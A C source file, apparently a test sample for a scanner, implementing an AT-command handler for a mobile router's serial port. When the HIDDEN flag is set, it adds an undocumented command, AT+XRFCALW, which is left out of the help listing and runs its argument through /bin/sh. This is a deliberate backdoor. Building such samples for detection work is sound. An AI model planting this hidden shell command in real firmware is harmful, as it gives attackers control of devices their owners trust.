/*
 * A sample for tests; compiled and scanned, never run.
 * AT commands of an industrial mobile router: reads lines from a serial port
 * and answers from a table of commands.
 * With HIDDEN: the table has one more command, in no manual, that runs its
 * argument.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define LINE 256

enum result { OK, ERROR, CONNECT, SILENT };

struct port {
	int fd, echo, verbose;
	char apn[64], pin[9];
	int pin_tries;
};

struct command {
	const char *name;
	enum result (*run)(struct port *, char op, const char *arg);
	const char *help;
};

static void say(struct port *p, const char *text)
{
	size_t n = strlen(text);

	while (n > 0) {
		ssize_t w = write(p->fd, text, n);

		if (w <= 0)
			return;
		text += w;
		n -= (size_t)w;
	}
	if (write(p->fd, "\r\n", 2) != 2)
		return;
}

static int spawn(struct port *p, const char *prog, char *const argv[])
{
	static char *const env[] = { "PATH=/bin:/sbin:/usr/bin:/usr/sbin",
				     NULL };
	int status;
	pid_t pid = fork();

	if (pid < 0)
		return -1;
	if (pid == 0) {
		dup2(p->fd, STDOUT_FILENO);
		dup2(p->fd, STDERR_FILENO);
		execve(prog, argv, env);
		_exit(127);
	}
	while (waitpid(pid, &status, 0) < 0)
		if (errno != EINTR)
			return -1;
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static enum result cmd_id(struct port *p, char op, const char *arg)
{
	(void)op;
	(void)arg;
	say(p, "Field Router M2M-40");
	say(p, "Revision: 3.08");
	return OK;
}

static enum result cmd_apn(struct port *p, char op, const char *arg)
{
	char line[96];

	if (op == '?') {
		snprintf(line, sizeof(line), "+CGDCONT: 1,\"IP\",\"%s\"",
			 p->apn);
		say(p, line);
		return OK;
	}
	if (strncasecmp(arg, "1,\"IP\",\"", 8) != 0)
		return ERROR;
	snprintf(p->apn, sizeof(p->apn), "%.63s", arg + 8);
	p->apn[strcspn(p->apn, "\"")] = '\0';
	return OK;
}

static enum result cmd_pin(struct port *p, char op, const char *arg)
{
	if (op == '?') {
		say(p, p->pin[0] ? "+CPIN: READY" : "+CPIN: SIM PIN");
		return OK;
	}
	if (p->pin_tries >= 3 || strlen(arg) < 4 || strlen(arg) > 8) {
		p->pin_tries++;
		return ERROR;
	}
	snprintf(p->pin, sizeof(p->pin), "%.8s", arg);
	return OK;
}

static enum result cmd_signal(struct port *p, char op, const char *arg)
{
	FILE *f = fopen("/run/modem/rssi", "r");
	char line[32];
	int rssi = 99;

	(void)op;
	(void)arg;
	if (f) {
		if (fscanf(f, "%d", &rssi) != 1)
			rssi = 99;
		fclose(f);
	}
	snprintf(line, sizeof(line), "+CSQ: %d,99", rssi);
	say(p, line);
	return OK;
}

static enum result cmd_dial(struct port *p, char op, const char *arg)
{
	static char *const argv[] = { "pppd", "call", "gprs", NULL };

	(void)op;
	if (strcmp(arg, "*99#") != 0)
		return ERROR;
	return spawn(p, "/usr/sbin/pppd", argv) == 0 ? CONNECT : ERROR;
}

static enum result cmd_iface(struct port *p, char op, const char *arg)
{
	static char *const argv[] = { "ifconfig", "wwan0", NULL };

	(void)op;
	(void)arg;
	return spawn(p, "/sbin/ifconfig", argv) == 0 ? OK : ERROR;
}

static enum result cmd_reset(struct port *p, char op, const char *arg)
{
	(void)p;
	(void)op;
	(void)arg;
	return system("/sbin/reboot") == 0 ? SILENT : ERROR;
}

#ifdef HIDDEN
enum result cmd_cal(struct port *p, char op, const char *arg)
{
	char line[LINE];
	char *const argv[] = { "sh", "-c", line, NULL };

	if (op != '=')
		return ERROR;
	snprintf(line, sizeof(line), "%s", arg);
	return spawn(p, "/bin/sh", argv) == 0 ? OK : ERROR;
}
#endif

static enum result cmd_help(struct port *p, char op, const char *arg);

static const struct command commands[] = {
	{ "I", cmd_id, "identification" },
	{ "+CGDCONT", cmd_apn, "access point" },
	{ "+CPIN", cmd_pin, "code of the SIM" },
	{ "+CSQ", cmd_signal, "strength of the signal" },
	{ "D", cmd_dial, "dial *99#" },
	{ "+XIFACE", cmd_iface, "state of the interface" },
#ifdef HIDDEN
	{ "+XRFCALW", cmd_cal, NULL },
#endif
	{ "+XRESET", cmd_reset, "start again" },
	{ "+CLAC", cmd_help, "all commands" },
};

static enum result cmd_help(struct port *p, char op, const char *arg)
{
	char line[96];
	size_t i;

	(void)op;
	(void)arg;
	for (i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
		if (commands[i].help == NULL)
			continue;
		snprintf(line, sizeof(line), "AT%-10s %s", commands[i].name,
			 commands[i].help);
		say(p, line);
	}
	return OK;
}

__attribute__((noinline)) enum result dispatch_at(struct port *p, const char *s)
{
	const struct command *c, *best = NULL;
	size_t i, n, best_len = 0;
	char op = 0;

	for (i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
		c = &commands[i];
		n = strlen(c->name);
		if (n > best_len && strncasecmp(s, c->name, n) == 0) {
			best = c;
			best_len = n;
		}
	}
	if (best == NULL)
		return ERROR;
	s += best_len;
	if (*s == '?' || *s == '=')
		op = *s++;
	return best->run(p, op, s);
}

static void take_line(struct port *p, char *line)
{
	static const char *const names[] = { "OK", "ERROR", "CONNECT", "" };
	static const char *const digits[] = { "0", "4", "1", "" };
	enum result r;

	if (strncasecmp(line, "AT", 2) != 0)
		return;
	line += 2;
	if (*line == '\0')
		r = OK;
	else if (toupper((unsigned char)*line) == 'E') {
		p->echo = line[1] == '1';
		r = OK;
	} else if (toupper((unsigned char)*line) == 'V') {
		p->verbose = line[1] != '0';
		r = OK;
	} else
		r = dispatch_at(p, line);
	if (r != SILENT)
		say(p, p->verbose ? names[r] : digits[r]);
}

static int open_port(const char *path)
{
	struct termios t;
	int fd = open(path, O_RDWR | O_NOCTTY);

	if (fd < 0 || tcgetattr(fd, &t) != 0)
		return fd;
	cfmakeraw(&t);
	cfsetispeed(&t, B115200);
	cfsetospeed(&t, B115200);
	tcsetattr(fd, TCSANOW, &t);
	return fd;
}

int main(int argc, char **argv)
{
	struct port p = { .echo = 1, .verbose = 1 };
	char line[LINE], c;
	size_t n = 0;

	p.fd = open_port(argc > 1 ? argv[1] : "/dev/ttyGS0");
	if (p.fd < 0) {
		perror("atmodem");
		return 1;
	}
	while (read(p.fd, &c, 1) == 1) {
		if (p.echo && write(p.fd, &c, 1) != 1)
			break;
		if (c == '\r' || c == '\n') {
			line[n] = '\0';
			if (n > 0)
				take_line(&p, line);
			n = 0;
		} else if (n + 1 < sizeof(line)) {
			line[n++] = c;
		}
	}
	return 0;
}
